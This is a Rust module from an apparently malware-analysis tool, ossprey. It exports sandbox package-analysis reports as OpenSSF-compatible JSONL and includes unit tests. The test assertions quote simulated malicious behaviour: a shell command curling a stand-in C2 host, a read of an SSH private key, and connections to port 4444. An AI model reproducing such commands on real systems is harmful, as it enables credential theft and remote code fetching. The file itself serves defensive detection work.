//! JSONL of dynamic results in the reference system's shape.
//!
//! One line per report, laid out like a record of OpenSSF package-analysis
//! (`internal/resultstore` + `pkg/api/analysisrun`): `Package{Ecosystem,Name,Version}`,
//! `CreatedTimestamp` (Unix seconds) and `Analysis` keyed by phase, each phase a
//! `StraceSummary` with `Status`, `Stdout`, `Stderr`, `Files`, `Sockets`, `Commands`
//! and `DNS`. Tools written for the reference's BigQuery tables read these keys
//! unchanged. Everything ossprey knows beyond that schema (verdict, score,
//! findings, honeytokens, HTTP requests, TLS names, timings) lives under one
//! separate key, `Ossprey`, in ossprey's own snake_case names, so the two never
//! collide.
//!
//! As in the reference's Go JSON, `Stdout` and `Stderr` are byte strings encoded as
//! standard base64.

use std::collections::BTreeMap;

use base64::Engine as _;
use ossprey_model::dynamic::{HttpRequest, PhaseReport, PhaseStatus};
use ossprey_model::{Ecosystem, Finding, Report, Verdict};
use serde::{Deserialize, Serialize};

/// One line of the JSONL export.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct DynamicRecord {
    /// The package, as the reference identifies it (`null` when the target could not
    /// be identified).
    #[serde(rename = "Package")]
    pub package: Option<RefPackage>,
    /// When the analysis was stored (or exported), in Unix seconds.
    #[serde(rename = "CreatedTimestamp")]
    pub created_timestamp: i64,
    /// Phase (`install`, `import`, `execute`) to what the sandbox saw. Empty for a
    /// report made by `scan` alone.
    #[serde(rename = "Analysis")]
    pub analysis: BTreeMap<String, RefPhase>,
    /// ossprey's own data, apart from the reference's keys.
    #[serde(rename = "Ossprey")]
    pub ossprey: OsspreyExtras,
}

/// `Package{Ecosystem,Name,Version}`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RefPackage {
    /// `pypi`, `npm`, `crates.io` or `rubygems`, as the reference spells them.
    #[serde(rename = "Ecosystem")]
    pub ecosystem: String,
    #[serde(rename = "Name")]
    pub name: String,
    #[serde(rename = "Version")]
    pub version: String,
}

/// The reference's `StraceSummary` of one phase.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RefPhase {
    /// `completed`, `error_timeout`, `error_analysis` (the command failed) or
    /// `error_other` (the sandbox could not run it), as the reference spells them.
    #[serde(rename = "Status")]
    pub status: String,
    /// Captured standard output (bounded), base64.
    #[serde(rename = "Stdout")]
    pub stdout: String,
    /// Captured standard error (bounded), base64.
    #[serde(rename = "Stderr")]
    pub stderr: String,
    #[serde(rename = "Files")]
    pub files: Vec<RefFile>,
    #[serde(rename = "Sockets")]
    pub sockets: Vec<RefSocket>,
    #[serde(rename = "Commands")]
    pub commands: Vec<RefCommand>,
    #[serde(rename = "DNS")]
    pub dns: Vec<RefDns>,
}

/// `Files{Path,Read,Write,Delete}`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RefFile {
    #[serde(rename = "Path")]
    pub path: String,
    #[serde(rename = "Read")]
    pub read: bool,
    /// Written or created (the reference does not tell the two apart).
    #[serde(rename = "Write")]
    pub write: bool,
    #[serde(rename = "Delete")]
    pub delete: bool,
}

/// `Sockets{Address,Port,Hostnames}`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RefSocket {
    #[serde(rename = "Address")]
    pub address: String,
    #[serde(rename = "Port")]
    pub port: u16,
    #[serde(rename = "Hostnames")]
    pub hostnames: Vec<String>,
}

/// `Commands{Command,Environment}`: one per `execve`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RefCommand {
    #[serde(rename = "Command")]
    pub command: Vec<String>,
    /// `NAME=value` strings (the recorded subset of the environment).
    #[serde(rename = "Environment")]
    pub environment: Vec<String>,
}

/// `DNS{Class,Queries{Hostname,Types}}`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RefDns {
    #[serde(rename = "Class")]
    pub class: String,
    #[serde(rename = "Queries")]
    pub queries: Vec<RefDnsQuery>,
}

/// One queried name and the record types asked for it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RefDnsQuery {
    #[serde(rename = "Hostname")]
    pub hostname: String,
    #[serde(rename = "Types")]
    pub types: Vec<String>,
}

/// What ossprey adds to the reference's record.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct OsspreyExtras {
    /// Version of ossprey's report shape the data came from.
    pub schema_version: u32,
    /// The store's analysis id, when exported from a store.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub analysis_id: Option<i64>,
    /// The target as the user gave it.
    pub target: String,
    pub sha256: Option<String>,
    pub verdict: Option<Verdict>,
    pub score: Option<f64>,
    pub findings: Vec<Finding>,
    /// Why the target could not be analysed, when it could not.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    /// Fake secrets planted and where they turned up (`null` for `scan`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub honeytokens: Option<ossprey_model::dynamic::Honeytokens>,
    /// Per phase: what the reference's summary has no place for.
    pub phases: BTreeMap<String, PhaseExtras>,
}

/// The part of a phase the reference's summary does not cover.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct PhaseExtras {
    /// ossprey's own status (`completed`, `timeout`, `error`).
    pub status: PhaseStatus,
    pub duration_ms: u64,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub exit_code: Option<i32>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub exit_signal: Option<i32>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    /// HTTP requests the sinkhole captured, with where they were sent.
    pub http_requests: Vec<SentHttp>,
    /// TLS handshakes: destination and the server name asked for.
    pub tls: Vec<SentTls>,
}

/// One captured HTTP request and its destination.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct SentHttp {
    pub address: String,
    pub port: u16,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hostname: Option<String>,
    pub request: HttpRequest,
}

/// One TLS ClientHello and its destination.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct SentTls {
    pub address: String,
    pub port: u16,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hostname: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sni: Option<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub alpn: Vec<String>,
}

/// The ecosystem's name in the reference system.
pub fn reference_ecosystem(ecosystem: Ecosystem) -> &'static str {
    match ecosystem {
        Ecosystem::Pypi => "pypi",
        Ecosystem::Npm => "npm",
        Ecosystem::Crates => "crates.io",
        Ecosystem::Rubygems => "rubygems",
    }
}

/// The reference's status of a phase: a command that ended with a non-zero exit or
/// a signal is `error_analysis` there, not `completed`.
fn reference_status(phase: &PhaseReport) -> &'static str {
    match phase.status {
        PhaseStatus::Completed
            if phase.exit_code.unwrap_or(0) == 0 && phase.exit_signal.is_none() =>
        {
            "completed"
        }
        PhaseStatus::Completed => "error_analysis",
        PhaseStatus::Timeout => "error_timeout",
        PhaseStatus::Error => "error_other",
    }
}

/// The JSONL record of one report. `created_timestamp` is Unix seconds;
/// `analysis_id` is the store's id, when there is one.
pub fn record(report: &Report, created_timestamp: i64, analysis_id: Option<i64>) -> DynamicRecord {
    let package = report.package.as_ref().map(|p| RefPackage {
        ecosystem: reference_ecosystem(p.ecosystem).to_owned(),
        name: p.name.clone(),
        version: p.version.clone().unwrap_or_default(),
    });
    let mut analysis = BTreeMap::new();
    let mut phases = BTreeMap::new();
    if let Some(dynamic) = &report.dynamic {
        for (key, phase) in [
            ("install", &dynamic.install),
            ("import", &dynamic.import),
            ("execute", &dynamic.execute),
        ] {
            if let Some(phase) = phase {
                analysis.insert(key.to_owned(), reference_phase(phase));
                phases.insert(key.to_owned(), phase_extras(phase));
            }
        }
    }
    DynamicRecord {
        package,
        created_timestamp,
        analysis,
        ossprey: OsspreyExtras {
            schema_version: report.schema_version,
            analysis_id,
            target: report.target.clone(),
            sha256: report.sha256.clone(),
            verdict: report.verdict,
            score: report.score,
            findings: report.findings.clone(),
            error: report
                .error
                .as_ref()
                .map(|e| format!("{}: {}", e.code, e.message)),
            honeytokens: report.dynamic.as_ref().map(|d| d.honeytokens.clone()),
            phases,
        },
    }
}

fn reference_phase(phase: &PhaseReport) -> RefPhase {
    let b64 = base64::engine::general_purpose::STANDARD;
    let files = phase
        .files
        .iter()
        .map(|f| RefFile {
            path: f.path.clone(),
            read: f.read,
            write: f.write || f.create,
            delete: f.delete,
        })
        .collect();

    // The reference lists the addresses a phase connected or sent to, once each;
    // binds and Unix sockets are not destinations.
    let mut sockets: Vec<RefSocket> = Vec::new();
    for s in &phase.sockets {
        if !matches!(s.family.as_str(), "inet" | "inet6") || s.op == "bind" {
            continue;
        }
        let port = s.port.unwrap_or(0);
        match sockets
            .iter_mut()
            .find(|r| r.address == s.address && r.port == port)
        {
            Some(seen) => {
                for h in &s.hostnames {
                    if !seen.hostnames.contains(h) {
                        seen.hostnames.push(h.clone());
                    }
                }
            }
            None => sockets.push(RefSocket {
                address: s.address.clone(),
                port,
                hostnames: s.hostnames.clone(),
            }),
        }
    }

    let commands = phase
        .processes
        .iter()
        .flat_map(|p| &p.execs)
        .map(|e| RefCommand {
            command: e.argv.clone(),
            environment: e
                .environment
                .iter()
                .map(|(k, v)| format!("{k}={v}"))
                .collect(),
        })
        .collect();

    // The sinkhole answers class IN only; group the questions by name, keeping the
    // order in which names and types were first asked.
    let mut queries: Vec<RefDnsQuery> = Vec::new();
    for q in &phase.network.dns {
        match queries.iter_mut().find(|r| r.hostname == q.hostname) {
            Some(seen) if !seen.types.contains(&q.qtype) => seen.types.push(q.qtype.clone()),
            Some(_) => {}
            None => queries.push(RefDnsQuery {
                hostname: q.hostname.clone(),
                types: vec![q.qtype.clone()],
            }),
        }
    }
    let dns = if queries.is_empty() {
        Vec::new()
    } else {
        vec![RefDns {
            class: "IN".to_owned(),
            queries,
        }]
    };

    RefPhase {
        status: reference_status(phase).to_owned(),
        stdout: b64.encode(phase.stdout.text.as_bytes()),
        stderr: b64.encode(phase.stderr.text.as_bytes()),
        files,
        sockets,
        commands,
        dns,
    }
}

fn phase_extras(phase: &PhaseReport) -> PhaseExtras {
    let mut http_requests = Vec::new();
    let mut tls = Vec::new();
    for c in &phase.network.connections {
        for request in &c.http {
            http_requests.push(SentHttp {
                address: c.address.clone(),
                port: c.port,
                hostname: c.hostname.clone(),
                request: request.clone(),
            });
        }
        if c.tls_sni.is_some() || !c.tls_alpn.is_empty() || c.kind == "tls" {
            tls.push(SentTls {
                address: c.address.clone(),
                port: c.port,
                hostname: c.hostname.clone(),
                sni: c.tls_sni.clone(),
                alpn: c.tls_alpn.clone(),
            });
        }
    }
    PhaseExtras {
        status: phase.status,
        duration_ms: phase.duration_ms,
        exit_code: phase.exit_code,
        exit_signal: phase.exit_signal,
        error: phase.error.clone(),
        http_requests,
        tls,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::testdata;

    #[test]
    fn reference_field_names_and_values_come_from_the_report() {
        let report = testdata::analysed_malicious();
        let line = serde_json::to_string(&record(&report, 1_764_000_000, Some(7))).unwrap();
        let v: serde_json::Value = serde_json::from_str(&line).unwrap();

        assert_eq!(v["Package"]["Ecosystem"], "pypi");
        assert_eq!(v["Package"]["Name"], "evil");
        assert_eq!(v["Package"]["Version"], "1.0");
        assert_eq!(v["CreatedTimestamp"], 1_764_000_000);
        let install = &v["Analysis"]["install"];
        assert_eq!(install["Status"], "completed");
        // A phase whose command failed is `error_analysis` in the reference.
        assert_eq!(v["Analysis"]["import"]["Status"], "error_analysis");
        assert_eq!(
            install["Files"][0],
            serde_json::json!({"Path": "/home/u/.ssh/id_rsa", "Read": true, "Write": false, "Delete": false})
        );
        // Created counts as written.
        assert_eq!(install["Files"][1]["Write"], true);
        assert_eq!(
            install["Sockets"],
            serde_json::json!([{"Address": "198.18.0.5", "Port": 443, "Hostnames": ["c2.evil.example"]},
                               {"Address": "203.0.113.7", "Port": 4444, "Hostnames": []},
                               {"Address": "10.0.2.3", "Port": 53, "Hostnames": []}])
        );
        assert_eq!(
            install["Commands"][0],
            serde_json::json!({"Command": ["/bin/sh", "-c", "curl http://c2.evil.example/x"], "Environment": ["HOME=/home/u"]})
        );
        assert_eq!(
            install["DNS"],
            serde_json::json!([{"Class": "IN", "Queries": [{"Hostname": "c2.evil.example", "Types": ["A", "AAAA"]}]}])
        );
        let stdout = base64::engine::general_purpose::STANDARD
            .decode(install["Stdout"].as_str().unwrap())
            .unwrap();
        assert_eq!(stdout, b"hello\n");
        // Our extras are apart, under one key.
        assert_eq!(v["Ossprey"]["verdict"], "malicious");
        assert_eq!(v["Ossprey"]["analysis_id"], 7);
        assert_eq!(
            v["Ossprey"]["phases"]["install"]["http_requests"][0]["request"]["path"],
            "/collect"
        );
        assert_eq!(
            v["Ossprey"]["phases"]["install"]["tls"][0]["sni"],
            "c2.evil.example"
        );
        assert_eq!(v["Ossprey"]["honeytokens"]["hits"][0]["how"], "egress");
    }

    /// Checks `value` against a list of BigQuery fields: every key must be a field of
    /// that name, and every value of the field's type and mode.
    fn check_bigquery(value: &serde_json::Value, fields: &[serde_json::Value], path: &str) {
        let object = value
            .as_object()
            .unwrap_or_else(|| panic!("{path}: not an object"));
        for (key, v) in object {
            let field = fields
                .iter()
                .find(|f| f["name"] == key.as_str())
                .unwrap_or_else(|| panic!("{path}.{key}: not in the reference's schema"));
            let items: Vec<&serde_json::Value> = if field["mode"] == "REPEATED" {
                v.as_array()
                    .unwrap_or_else(|| panic!("{path}.{key}: REPEATED but not an array"))
                    .iter()
                    .collect()
            } else {
                vec![v]
            };
            for item in items {
                if item.is_null() && field["mode"] == "NULLABLE" {
                    continue;
                }
                let ok = match field["type"].as_str().unwrap() {
                    "STRING" | "BYTES" => item.is_string(),
                    "BOOLEAN" => item.is_boolean(),
                    "INTEGER" | "TIMESTAMP" => item.is_i64(),
                    "RECORD" => {
                        check_bigquery(
                            item,
                            field["fields"].as_array().unwrap(),
                            &format!("{path}.{key}"),
                        );
                        true
                    }
                    other => panic!("{path}.{key}: unexpected type {other}"),
                };
                assert!(ok, "{path}.{key}: {item} is not {}", field["type"]);
            }
        }
    }

    #[test]
    fn reference_part_matches_the_reference_bigquery_schema() {
        let schema: serde_json::Value = serde_json::from_str(include_str!(
            "../../tests/schemas/package-analysis-dynamic-analysis-schema.json"
        ))
        .unwrap();
        let mut v =
            serde_json::to_value(record(&testdata::analysed_malicious(), 42, None)).unwrap();
        // Ours, apart by design (load with ignore-unknown-values).
        assert!(v.as_object_mut().unwrap().remove("Ossprey").is_some());
        assert!(
            v["Analysis"]["install"]["Files"]
                .as_array()
                .is_some_and(|f| !f.is_empty())
        );
        assert!(
            v["Analysis"]["install"]["DNS"]
                .as_array()
                .is_some_and(|f| !f.is_empty())
        );
        check_bigquery(&v, schema.as_array().unwrap(), "");
    }

    #[test]
    fn jsonl_round_trips_to_the_same_record_and_report_data() {
        let report = testdata::analysed_malicious();
        let exported = record(&report, 42, None);
        let line = serde_json::to_string(&exported).unwrap();
        assert!(!line.contains('\n'), "one record is one line");
        let parsed: DynamicRecord = serde_json::from_str(&line).unwrap();
        assert_eq!(parsed, exported);
        // And the data is the report's: findings, verdict, HTTP requests verbatim.
        assert_eq!(parsed.ossprey.findings, report.findings);
        assert_eq!(parsed.ossprey.verdict, report.verdict);
        assert_eq!(parsed.ossprey.score, report.score);
        let dynamic = report.dynamic.as_ref().unwrap();
        let install = dynamic.install.as_ref().unwrap();
        assert_eq!(
            parsed.ossprey.phases["install"].http_requests[0].request,
            install.network.connections[0].http[0]
        );
        assert_eq!(parsed.analysis["install"].files.len(), install.files.len());
        assert_eq!(
            parsed.ossprey.honeytokens.as_ref(),
            Some(&dynamic.honeytokens)
        );
    }

    #[test]
    fn a_scan_report_has_an_empty_analysis_and_crates_is_spelled_as_the_reference_does() {
        let mut report = testdata::analysed_malicious();
        report.dynamic = None;
        report.package.as_mut().unwrap().ecosystem = Ecosystem::Crates;
        let r = record(&report, 0, None);
        assert!(r.analysis.is_empty() && r.ossprey.phases.is_empty());
        assert_eq!(r.package.unwrap().ecosystem, "crates.io");
        assert_eq!(r.ossprey.honeytokens, None);
    }
}
